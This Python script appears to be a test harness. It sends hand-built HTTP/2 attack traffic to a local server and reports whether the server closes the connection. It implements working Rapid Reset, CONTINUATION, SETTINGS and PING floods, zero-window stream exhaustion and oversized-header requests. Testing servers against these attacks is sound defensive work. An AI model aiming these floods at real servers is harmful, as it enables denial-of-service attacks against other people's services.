"""h2 attacks on a server at 127.0.0.1:PORT, frames written by hand (so that malformed
sequences can be sent) and HPACK from the `hpack` package (pulled in by `h2`).

Usage: h2_attacks.py ATTACK PORT PATH WITHIN_SECONDS
Prints one JSON line: {"attack", "ended", "closed", "goaway", "refused", "responses",
"seconds"}, where `ended` says whether the server closed the connection or sent GOAWAY
within WITHIN_SECONDS. `polite` is the control: one request, answered, connection open.
"""
import json
import socket
import struct
import sys
import time

from hpack import Decoder, Encoder

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class Peer:
    def __init__(self, port, window=65535):
        self.sock = socket.create_connection(("127.0.0.1", port))
        # A server that stops reading makes sends wait: give up sending, then read.
        self.sock.settimeout(3)
        self.enc = Encoder()
        self.dec = Decoder()
        self.statuses = []
        self.resets = 0
        self.buf = b""
        self.goaway = None
        self.refused = 0
        self.responses = 0
        self.closed = False
        # SETTINGS_INITIAL_WINDOW_SIZE (4)
        self.send(PREFACE + settings([(4, window)]))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            # Timed out (the server stopped reading) or reset: stop sending, then read
            # whatever the server said before closing.
            return False

    def headers(self, stream, path, flags=END_STREAM | END_HEADERS):
        block = self.enc.encode([(":method", "GET"), (":scheme", "http"),
                                 (":path", path), (":authority", "x")])
        return frame(HEADERS, flags, stream, block)

    def read_until(self, deadline, stop=lambda p: False):
        """Reads frames until the server closes, `stop(self)` holds, or the deadline."""
        self.sock.settimeout(0.1)
        while time.time() < deadline and not stop(self):
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buf += chunk
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                ftype, payload = self.buf[3], self.buf[9:9 + length]
                self.buf = self.buf[9 + length:]
                if ftype == GOAWAY:
                    self.goaway = int.from_bytes(payload[4:8], "big")
                elif ftype == RST_STREAM:
                    self.resets += 1
                    if int.from_bytes(payload[:4], "big") == 7:
                        self.refused += 1
                elif ftype == HEADERS:
                    self.responses += 1
                    try:
                        for name, value in self.dec.decode(payload):
                            if name in (":status", b":status"):
                                self.statuses.append(int(value))
                    except Exception:
                        pass

    @property
    def ended(self):
        return self.closed or self.goaway is not None


def rapid_reset(p, path):
    # HEADERS then RST_STREAM(CANCEL), as fast as the socket takes them.
    for i in range(2000):
        s = 2 * i + 1
        if not p.send(p.headers(s, path) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))):
            break


def continuation_flood(p, path):
    p.send(p.headers(1, path, flags=0))
    junk = p.enc.encode([("x-junk", "a" * 4000)])
    for _ in range(5000):
        if not p.send(frame(CONTINUATION, 0, 1, junk)):
            break


def settings_flood(p, path):
    p.send(p.headers(1, path))
    for _ in range(200000):
        if not p.send(settings()):
            break


def ping_flood(p, path):
    p.send(p.headers(1, path))
    for i in range(200000):
        if not p.send(frame(PING, 0, 0, struct.pack(">Q", i))):
            break


def too_many_streams(p, path):
    # 100 streams at once on a connection that allows 64; windows closed so none ends.
    p.send(b"".join(p.headers(2 * i + 1, path) for i in range(100)))


def header_list(p, path, size):
    # One request whose header list is `size` bytes of one field, split into HEADERS and
    # CONTINUATION frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
    block = p.enc.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                          (":authority", "x"), ("x-big", "a" * size)])
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = frame(HEADERS, END_STREAM | (END_HEADERS if len(chunks) == 1 else 0), 1, chunks[0])
    for i, chunk in enumerate(chunks[1:], start=1):
        out += frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, 1, chunk)
    p.send(out)


def polite(p, path):
    # The control: one request on a well-behaved connection, answered and kept open.
    p.send(p.headers(1, path))


def no_streams(p, path):
    # The preface and SETTINGS, then nothing: no request ever.
    pass


ATTACKS = {
    "polite": (polite, 65535),
    "no_streams": (no_streams, 65535),
    "rapid_reset": (rapid_reset, 65535),
    "continuation_flood": (continuation_flood, 65535),
    "settings_flood": (settings_flood, 65535),
    "ping_flood": (ping_flood, 65535),
    "zero_window_streams": (too_many_streams, 0),
    "header_list_1k": (lambda p, path: header_list(p, path, 1000), 65535),
    "header_list_20k": (lambda p, path: header_list(p, path, 20000), 65535),
}


def main():
    attack, port, path, within = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    run, window = ATTACKS[attack]
    started = time.time()
    p = Peer(port, window)
    run(p, path)
    if attack == "polite":
        p.read_until(started + within, stop=lambda peer: peer.responses > 0)
    elif attack.startswith("header_list"):
        p.read_until(started + within,
                     stop=lambda peer: peer.responses > 0 or peer.resets > 0 or peer.ended)
    else:
        p.read_until(started + within, stop=lambda peer: peer.closed)
    print(json.dumps({"attack": attack, "ended": p.ended, "closed": p.closed,
                      "goaway": p.goaway, "refused": p.refused, "responses": p.responses,
                      "statuses": p.statuses, "resets": p.resets,
                      "seconds": round(time.time() - started, 3)}), flush=True)


main()
